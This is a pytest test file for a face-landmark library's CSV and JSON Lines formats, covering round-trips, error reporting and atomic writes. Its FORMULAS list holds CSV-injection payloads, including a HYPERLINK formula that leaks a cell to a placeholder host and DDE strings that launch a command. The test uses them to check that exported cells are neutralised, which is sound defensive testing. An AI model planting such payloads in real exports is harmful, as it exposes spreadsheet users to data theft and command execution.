"""CSV and JSON Lines."""

import csv as python_csv
import json

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from meanshape import formats
from meanshape.core.box import Box
from meanshape.core.errors import FormatError
from meanshape.core.face import Emotion, Face, Pose
from meanshape.core.prediction import Prediction
from meanshape.core.shape import Shape
from meanshape.formats import cells, csv, jsonl, text

FIVE = [[10, 20], [30, 20.25], [20, 30], [12, 40], [28, 41.123456]]
FULL = Prediction(
    (
        Face(
            Box(1, 2, 50.5, 60, 0.75),
            Shape([*FIVE[:4], [np.nan, 3]], "mtfl5", [1, 1, 0, 1, 1], [1, 0.5, 0.25, 0, 1]),
            pose=Pose(1, -2, 3.5),
            emotion=Emotion("happy", {"happy": 0.75, "sad": 0.25}),
            attributes={"glasses": "no glasses"},
            track=7,
        ),
        Face(Box(0, 0, 9, 9)),
    ),
    (640, 480),
    'Ordner/脸 é, "2".jpg',
    "dan",
    0.25,
)
NOBODY = Prediction((), (10, 10), "leer.png", "dan", 0.125)
FAILED = Prediction((), (0, 0), "kaputt.jpg", error="not a picture")

numbers = st.floats(-1e5, 1e5)
points = st.lists(st.one_of(st.none(), st.tuples(numbers, numbers)), min_size=5, max_size=5).filter(
    lambda rows: min(np.ptp([row for row in rows if row] or [[0, 0]], axis=0)) > 0.001
)
names = st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=20)


def shape_of(rows):
    return Shape([row or (np.nan, np.nan) for row in rows], "mtfl5")


def test_jsonl_holds_everything(tmp_path):
    path = tmp_path / "alles.jsonl"
    formats.write(path, [FULL, NOBODY, FAILED])
    assert formats.read(path) == [FULL, NOBODY, FAILED]
    first = json.loads(path.read_text("utf-8").splitlines()[0])
    assert list(first) == ["schema", "source", "size", "model", "seconds", "faces", "error"]
    assert first["faces"][0]["shape"]["points"][4] == [None, None]


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ('{"schema": 1, "source": "a", "si', "not JSON"),
        ('{"schema": 2}', "schema 1"),
        ("[1, 2]", "schema 1"),
        ('{"schema": 1, "source": "a", "size": [1, 2]}', "faces"),
        ('{"schema": 1, "size": [1, 2], "faces": [{"box": [5, 0, 1, 1]}]}', "left < right"),
    ],
)
def test_a_wrong_line_of_jsonl_is_named(tmp_path, line, says):
    path = tmp_path / "a.jsonl"
    path.write_text(f"{jsonl.render(NOBODY)}\n\n{line}\n", "utf-8")
    with pytest.raises(FormatError, match=says) as error:
        formats.read(path)
    assert error.value.line == 3
    assert str(error.value).count("a.jsonl") == 1


def test_csv_holds_points_and_the_likeliest_labels(tmp_path):
    path = tmp_path / "punkte.csv"
    formats.write(path, [FULL, NOBODY])
    more = ("score", "track", "pitch", "yaw", "roll", "emotion", "attribute_glasses")
    assert path.read_text("utf-8").splitlines()[0] == ",".join((*csv.COLUMNS, *more))
    (read,) = formats.read(path)
    assert read.source == FULL.source
    assert [face.shape for face in read.faces] == [FULL.faces[0].shape]
    assert read.faces[0].pose == Pose(1, -2, 3.5)
    assert read.faces[0].emotion == Emotion("happy")
    assert read.faces[0].attributes == {"glasses": "no glasses"}
    assert read.faces[0].box == FULL.faces[0].box
    assert (read.faces[0].score, read.faces[0].track) == (FULL.faces[0].score, 7)


def test_csv_of_points_alone_has_no_further_columns(tmp_path):
    path = tmp_path / "a.csv"
    formats.write(path, [Prediction((Face(Box(0, 0, 9, 9), Shape(FIVE, "mtfl5")),), (9, 9), "a.png")])
    assert path.read_text("utf-8").splitlines()[0] == ",".join(csv.COLUMNS)


def test_long_csv_needs_little_and_finds_names(tmp_path):
    path = tmp_path / "a.csv"
    rows = [
        "source,point,x,y",
        "b.jpg,nose,20,30",
        "b.jpg,0,10,20",
        "b.jpg,left_eye,30,20.25",
        "",
        "b.jpg,3,12,40",
    ]
    path.write_text("\n".join(rows), "utf-8")
    (read,) = formats.read(path, "mtfl5")
    assert np.array_equal(read.faces[0].shape.points[:4], FIVE[:4])
    assert np.isnan(read.faces[0].shape.points[4]).all()


@pytest.mark.parametrize(
    "header",
    [
        [f"{axis}{i}" for i in range(1, 6) for axis in "xy"],
        [f"{axis}_{i}" for i in range(5) for axis in "xy"],
        [f"{name}_{axis}" for name in ("eye_r", "eye_l", "nose", "mouth_r", "mouth_l") for axis in "xy"],
    ],
)
def test_wide_csv_has_a_face_in_a_row(tmp_path, header):
    cells = [f"{v}" for v in np.ravel(FIVE)]
    path = tmp_path / "a.csv"
    path.write_text("\n".join([",".join(["Image", *header]), ",".join(["b.jpg", *cells])]), "utf-8-sig")
    (read,) = formats.read(path)
    assert read.source == "b.jpg"
    assert np.array_equal(read.faces[0].shape.points, FIVE)


def test_wide_csv_counts_by_number_and_collects_faces(tmp_path):
    header = ",".join(["file", *[f"x{i}" for i in range(1, 6)], *[f"y{i}" for i in range(1, 6)]])
    row = ",".join(["b.jpg", *[f"{v}" for v in np.transpose(FIVE).ravel()]])
    (tmp_path / "a.csv").write_text(f"{header}\n{row}\n{row}\n", "utf-8")
    (read,) = formats.read(tmp_path / "a.csv")
    assert [np.array_equal(face.shape.points, FIVE) for face in read.faces] == [True, True]


@pytest.mark.parametrize(
    ("rows", "line", "says"),
    [
        ("name,point,x,y\na,0,1,2", 1, "no column names the photo"),
        ("source,a,b\nb.jpg,1,2", 1, "wanted columns point, x, y"),
        ("source,x1,y1,x2\nb.jpg,1,2,3", 1, "point '2' has a column for x only"),
        ("source,point,x,y\nb.jpg,0,1,2\nb.jpg,1,1", 3, "4 cells"),
        ("source,point,x,y\nb.jpg,0,1,2\nb.jpg,1,1,2,3", 3, "4 cells"),
        ("source,point,x,y\nb.jpg,0,1,zwei", 2, "got 'zwei'"),
        ("source,point,x,y\nb.jpg,0,1,nan", 2, "finite"),
        ("source,point,x,y\nb.jpg,0,1,", 2, "wanted a number"),
        ("source,point,x,y\nb.jpg,0,1,2\nb.jpg,0,3,4", 3, "twice"),
        ("source,point,x,y\nb.jpg,nase,1,2", 2, "no point 'nase' among 5; did you mean 'nose'"),
        ("source,point,x,y\nb.jpg,5,1,2", 2, "no point '5' among 5"),
        ("source,point,x,y,visible\nb.jpg,0,1,2,maybe", 2, "visible is 0 or 1"),
        ("source,point,x,y,confidence\nb.jpg,0,1,2,1.5\nb.jpg,1,5,5,1", 2, "confidence must lie in 0..1"),
        ("source,point,x,y\nb.jpg,0,,", 2, "no box goes around no points"),
    ],
)
def test_a_malformed_csv_is_refused_with_its_line(tmp_path, rows, line, says):
    (tmp_path / "a.csv").write_text(rows, "utf-8")
    with pytest.raises(FormatError, match=says) as error:
        formats.read(tmp_path / "a.csv", "mtfl5")
    assert error.value.line == line


def test_an_unknown_suffix_offers_those_there_are(tmp_path):
    with pytest.raises(FormatError, match=r"did you mean '.csv'"):
        formats.read(tmp_path / "a.csw")


def test_a_failed_write_leaves_the_old_file_alone(tmp_path):
    path = tmp_path / "a.txt"
    text.write_text(path, "alt")
    with pytest.raises(UnicodeEncodeError):
        text.write_text(path, "\ud800")
    assert path.read_text("utf-8") == "alt"
    assert [p.name for p in tmp_path.iterdir()] == ["a.txt"]


@pytest.mark.parametrize("suffix", sorted(set(formats.SUFFIXES) - {".pts", ".ljson"}))
@given(st.dictionaries(names, st.lists(points, min_size=1, max_size=3), min_size=1, max_size=3))
def test_written_and_read_back_to_a_millionth(tmp_path_factory, suffix, photos):
    path = tmp_path_factory.mktemp("formats") / f"a{suffix}"
    shapes = {name: [shape_of(rows) for rows in many] for name, many in photos.items()}
    formats.write(
        path,
        [Prediction(tuple(Face(s.box(), s) for s in many), (9, 9), name) for name, many in shapes.items()],
    )
    read = formats.read(path)
    assert [prediction.source for prediction in read] == list(shapes)
    for prediction in read:
        for face, shape in zip(prediction.faces, shapes[prediction.source], strict=True):
            assert np.array_equal(np.isnan(face.shape.points), np.isnan(shape.points))
            assert np.nanmax(np.abs(face.shape.points - shape.points)) <= 1e-6


FORMULAS = (
    '=HYPERLINK("http://x/"&A1;"win")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    "  =1",
    "a;=cmd|' /C calc'!A0;b",
    "a\t=1",
    "'=1",
    "''@x",
)


def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path):
    """Not in a country where cells end at a semicolon either; and what is read back is what was written."""
    path = tmp_path / "a.csv"
    photos = [
        Prediction(
            (Face(Box(0, 0, 9, 9), Shape([*FIVE[:4], [-1.5, -2]], "mtfl5"), attributes={"hat": name}),),
            (0, 0),
            f"{name}.jpg",
        )
        for name in map(str.strip, FORMULAS)
    ]
    csv.write(path, photos)
    assert [one.source for one in csv.read(path)] == [photo.source for photo in photos]
    assert [dict(one.faces[0].attributes) for one in csv.read(path)] == [
        dict(photo.faces[0].attributes) for photo in photos
    ]
    assert "-1.500000,-2.000000" in path.read_text("utf-8")  # a number stays a number
    for delimiter in ",;\t":
        with path.open(newline="", encoding="utf-8") as file:
            rows = list(python_csv.reader(file, delimiter=delimiter))
        begins = {cell.strip()[0] for row in rows for cell in row if cell.strip()}
        texts = {
            cell
            for row in rows
            for cell in row
            if cell.lstrip()[:1] in tuple("=+-@＝") and cell.strip("-.0123456789")
        }
        assert begins and not texts, texts


@given(st.one_of(st.text(), st.sampled_from(FORMULAS), st.text("'=+-@\t 1a;", max_size=6)))
def test_a_guarded_text_comes_back(name):
    assert cells.plain(cells.guarded(name)) == name


def test_numbers_and_plain_names_are_not_changed():
    for text_ in ("-1.5", "+2", "-1e-05", "a=b.jpg", "é/ü.jpg", "", "'quoted'", "x-y"):
        assert cells.render_row([text_, None]) == f"{text_},\n"
